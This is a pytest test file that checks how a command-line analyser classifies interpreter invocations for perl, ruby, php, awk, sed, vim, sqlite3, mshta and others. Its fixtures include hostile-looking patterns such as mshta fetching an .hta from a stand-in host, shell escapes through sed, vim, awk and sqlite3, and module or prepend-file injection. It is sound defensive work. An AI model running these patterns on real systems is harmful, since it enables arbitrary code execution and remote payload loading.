"""Perl, ruby, php, awk and other interpreters: every fact of each line."""

import pytest

from tests.launch.told import told

CASES: list[tuple[str, dict[str, object]]] = [
    ("perl -e 'print 1'", {"launcher": "perl", "inline_code": True, "inline_language": "perl", "source": "inline"}),
    ("perl '-eprint 1'", {"launcher": "perl", "inline_code": True, "inline_language": "perl", "source": "inline"}),
    ("perl -we 'print 1'", {"launcher": "perl", "inline_code": True, "inline_language": "perl", "source": "inline"}),
    (
        "perl -Mstrict -e 1",
        {
            "launcher": "perl",
            "inline_code": True,
            "inline_language": "perl",
            "loads_code": ("-M strict",),
            "source": "inline",
        },
    ),
    (
        "perl -MEvil server.pl",
        {
            "launcher": "perl",
            "loads_code": ("-M Evil",),
            "source": "local-script",
            "script": "server.pl",
            "script_place": "project",
            "relative_paths": ("server.pl",),
        },
    ),
    (
        "perl -I./lib server.pl",
        {
            "launcher": "perl",
            "loads_code": ("-I ./lib",),
            "source": "local-script",
            "script": "server.pl",
            "script_place": "project",
            "relative_paths": ("./lib", "server.pl"),
        },
    ),
    (
        "perl /opt/x/server.pl -e x",
        {
            "launcher": "perl",
            "server_args": ("-e", "x"),
            "source": "local-script",
            "script": "/opt/x/server.pl",
            "script_place": "application",
        },
    ),
    ("perl", {"launcher": "perl", "inline_code": True, "inline_language": "perl", "source": "inline"}),
    ("ruby -e 'puts 1'", {"launcher": "ruby", "inline_code": True, "inline_language": "ruby", "source": "inline"}),
    ("ruby -ne 'puts 1'", {"launcher": "ruby", "inline_code": True, "inline_language": "ruby", "source": "inline"}),
    (
        "ruby -r ./evil server.rb",
        {
            "launcher": "ruby",
            "loads_code": ("-r ./evil",),
            "source": "local-script",
            "script": "server.rb",
            "script_place": "project",
            "relative_paths": ("./evil", "server.rb"),
        },
    ),
    (
        "ruby -revil server.rb",
        {
            "launcher": "ruby",
            "loads_code": ("-r evil",),
            "source": "local-script",
            "script": "server.rb",
            "script_place": "project",
            "relative_paths": ("server.rb",),
        },
    ),
    (
        "ruby /opt/x/server.rb",
        {"launcher": "ruby", "source": "local-script", "script": "/opt/x/server.rb", "script_place": "application"},
    ),
    ("php -r 'echo 1;'", {"launcher": "php", "inline_code": True, "inline_language": "php", "source": "inline"}),
    ("php '-recho 1;'", {"launcher": "php", "inline_code": True, "inline_language": "php", "source": "inline"}),
    ("php --run 'echo 1;'", {"launcher": "php", "inline_code": True, "inline_language": "php", "source": "inline"}),
    (
        "php -d auto_prepend_file=./x.php server.php",
        {
            "launcher": "php",
            "loads_code": ("-d auto_prepend_file=./x.php",),
            "source": "local-script",
            "script": "server.php",
            "script_place": "project",
            "relative_paths": ("./x.php", "server.php"),
        },
    ),
    (
        "php -d memory_limit=1G /opt/x/server.php",
        {"launcher": "php", "source": "local-script", "script": "/opt/x/server.php", "script_place": "application"},
    ),
    ("php -S 0.0.0.0:80", {"launcher": "php"}),
    ("lua -e 'print(1)'", {"launcher": "lua", "inline_code": True, "inline_language": "lua", "source": "inline"}),
    (
        "lua -l evil x.lua",
        {
            "launcher": "lua",
            "loads_code": ("-l evil",),
            "source": "local-script",
            "script": "x.lua",
            "script_place": "project",
            "relative_paths": ("x.lua",),
        },
    ),
    (
        "osascript -e 'do shell script \"x\"'",
        {"launcher": "osascript", "inline_code": True, "inline_language": "applescript", "source": "inline"},
    ),
    (
        "osascript -l JavaScript -e 1",
        {"launcher": "osascript", "inline_code": True, "inline_language": "applescript", "source": "inline"},
    ),
    (
        "osascript /opt/x.scpt",
        {"launcher": "osascript", "source": "local-script", "script": "/opt/x.scpt", "script_place": "system"},
    ),
    ("Rscript -e 1", {"launcher": "rscript", "inline_code": True, "inline_language": "r", "source": "inline"}),
    ("julia -e 1", {"launcher": "julia", "inline_code": True, "inline_language": "julia", "source": "inline"}),
    (
        "julia -L x.jl s.jl",
        {
            "launcher": "julia",
            "loads_code": ("-L x.jl",),
            "source": "local-script",
            "script": "s.jl",
            "script_place": "project",
            "relative_paths": ("x.jl", "s.jl"),
        },
    ),
    ("elixir -e 1", {"launcher": "elixir", "inline_code": True, "inline_language": "elixir", "source": "inline"}),
    ("groovy -e 1", {"launcher": "groovy", "inline_code": True, "inline_language": "groovy", "source": "inline"}),
    ("scala -e 1", {"launcher": "scala", "inline_code": True, "inline_language": "scala", "source": "inline"}),
    ("swift -e 1", {"launcher": "swift", "inline_code": True, "inline_language": "swift", "source": "inline"}),
    (
        "awk 'BEGIN{system(\"x\")}'",
        {"launcher": "awk", "inline_code": True, "inline_language": "awk", "source": "inline"},
    ),
    (
        "awk -f ./x.awk",
        {"launcher": "awk", "script": "./x.awk", "script_place": "project", "relative_paths": ("./x.awk",)},
    ),
    ("gawk -e 'BEGIN{}'", {"launcher": "awk", "inline_code": True, "inline_language": "awk", "source": "inline"}),
    ("gawk --source='BEGIN{}'", {"launcher": "awk", "inline_code": True, "inline_language": "awk", "source": "inline"}),
    ("sed '1e x'", {"launcher": "sed", "argument_injection": ("1e x",), "utility": True}),
    ("sed s/a/b/e", {"launcher": "sed", "argument_injection": ("s/a/b/e",), "utility": True}),
    ("sed s/a/b/", {"launcher": "sed", "utility": True}),
    ("vim -c ':!x'", {"launcher": "vim", "argument_injection": ("-c :!x",), "utility": True}),
    ("vim +:!x", {"launcher": "vim", "argument_injection": ("+:!x",), "utility": True}),
    ("vim file", {"launcher": "vim", "utility": True}),
    (
        "emacs --batch --eval '(x)'",
        {"launcher": "emacs", "inline_code": True, "inline_language": "lisp", "source": "inline"},
    ),
    ("emacs --batch -l x.el", {"launcher": "emacs", "loads_code": ("-l x.el",)}),
    (
        "jrunscript -e 1",
        {"launcher": "jrunscript", "inline_code": True, "inline_language": "javascript", "source": "inline"},
    ),
    (
        "tclsh x.tcl",
        {
            "launcher": "tclsh",
            "source": "local-script",
            "script": "x.tcl",
            "script_place": "project",
            "relative_paths": ("x.tcl",),
        },
    ),
    ("expect -c 'spawn x'", {"launcher": "expect", "inline_code": True, "inline_language": "tcl", "source": "inline"}),
    (
        "sqlite3 -cmd '.shell x' db",
        {
            "launcher": "sqlite3",
            "server_args": ("db",),
            "inline_code": True,
            "inline_language": "sql",
            "source": "inline",
            "utility": True,
        },
    ),
    ("sqlite3 db.sqlite", {"launcher": "sqlite3", "server_args": ("db.sqlite",), "utility": True}),
    (
        "mshta 'javascript:x'",
        {"launcher": "mshta", "inline_code": True, "inline_language": "javascript", "source": "inline"},
    ),
    (
        "mshta https://x.example/a.hta",
        {
            "launcher": "mshta",
            "inline_code": True,
            "inline_language": "javascript",
            "downloads_and_runs": True,
            "source": "inline",
        },
    ),
    (
        "cscript x.vbs",
        {
            "launcher": "cscript",
            "source": "local-script",
            "script": "x.vbs",
            "script_place": "project",
            "relative_paths": ("x.vbs",),
        },
    ),
    ("php8.2 -r 1", {"launcher": "php", "inline_code": True, "inline_language": "php", "source": "inline"}),
    ("lua5.4 -e 1", {"launcher": "lua5.4", "inline_code": True, "inline_language": "lua", "source": "inline"}),
]


@pytest.mark.parametrize(("line", "facts"), CASES, ids=[line for line, _ in CASES])
def test_facts(line: str, facts: dict[str, object]) -> None:
    assert told(line) == facts
